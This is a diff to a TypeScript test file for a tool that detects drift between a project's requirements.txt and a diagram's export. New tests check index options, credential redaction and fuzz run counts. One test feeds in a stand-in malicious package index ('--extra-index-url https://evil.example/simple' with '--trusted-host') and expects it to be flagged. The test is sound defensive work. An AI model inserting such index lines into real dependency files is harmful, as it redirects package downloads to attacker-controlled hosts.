@@ -3,7 +3,9 @@ import { describe, expect, it } from 'vitest';
 import { defaultCatalog } from '../catalog/catalog';
 import { stackOf, testCatalog } from '../check/testing';
 import { exportRequirements } from '../export/requirements';
+import { importRequirements } from '../import/requirements';
 import { checkRequirementsDrift, formatDrift, type DriftKind } from './drift';
+import { FUZZ_RUNS } from '../testing/fuzz-runs';
 
 const catalog = testCatalog({
   django: {
@@ -42,10 +44,10 @@ describe('requirements drift', () => {
     expect(checkRequirementsDrift(stack, real, exportRequirements(stack, real)).ok).toBe(true);
   });
 
-  it('comments, blank lines, hashes, markers, options and constraints are not drift', () => {
+  it('comments, blank lines, hashes, markers, options such as --pre and constraints are not drift', () => {
     const text = [
       '# our pins',
-      '--index-url https://pypi.example.org/simple',
+      '--pre',
       '-c constraints.txt',
       '',
       'Django==5.2.8 \\',
@@ -57,6 +59,42 @@ describe('requirements drift', () => {
       ok: true,
       differences: [],
     });
+  });
+
+  it('an index the export does not write is drift, naming its line (issue 17, findings 2 and 8)', () => {
+    const text = `${exported}--extra-index-url https://evil.example/simple\n--trusted-host evil.example\n`;
+    const result = drift(text);
+    expect(result.ok).toBe(false);
+    expect(result.differences.map((d) => [d.kind, d.actual])).toEqual([
+      ['index', '--extra-index-url https://evil.example/simple'],
+      ['index', '--trusted-host evil.example'],
+    ]);
+    expect(result.differences[0]!.message).toMatch(
+      /^requirements\.txt:\d+: --extra-index-url https:\/\/evil\.example\/simple is not in the diagram's export; it changes where pip downloads/,
+    );
+    expect(kinds(`-i https://mirror.example/simple\n-f ./wheels\n--no-index\n${pinned}`)).toEqual([
+      ['index', null],
+      ['index', null],
+      ['index', null],
+    ]);
+  });
+
+  it('the index options of the file a diagram was imported from are expected, and missing them is drift', () => {
+    const real = defaultCatalog();
+    const file = '--index-url https://pypi.example.org/simple\n-f ./wheels\nDjango==5.2.8\n';
+    const imported = importRequirements(file, real, { python: '3.12' }).diagram;
+    expect(checkRequirementsDrift(imported, real, file).differences).toEqual([]);
+    // A credential became ${VAR} on import; pip and the check read it from the environment.
+    const secret = '--extra-index-url https://ci:hunter2@pkgs.example.com/simple\nDjango==5.2.8\n';
+    const redacted = importRequirements(secret, real, { python: '3.12' });
+    const env = Object.fromEntries(redacted.redacted.map((name) => [name, 'hunter2']));
+    expect(redacted.redacted).not.toEqual([]);
+    expect(checkRequirementsDrift(redacted.diagram, real, secret, { env }).differences).toEqual([]);
+    const without = checkRequirementsDrift(imported, real, 'Django==5.2.8\n');
+    expect(without.differences.map((d) => [d.kind, d.expected])).toEqual([
+      ['index', '--index-url https://pypi.example.org/simple'],
+      ['index', '--find-links ./wheels'],
+    ]);
   });
 
   it('a package missing from requirements.txt is named with the line the diagram exports', () => {
@@ -210,7 +248,7 @@ describe('requirements drift under fuzzing', () => {
           for (const difference of result.differences) expect(difference.message.length).toBeGreaterThan(5);
         },
       ),
-      { numRuns: 1000 },
+      { numRuns: FUZZ_RUNS.requirementsDriftText.runs },
     );
   });
 });
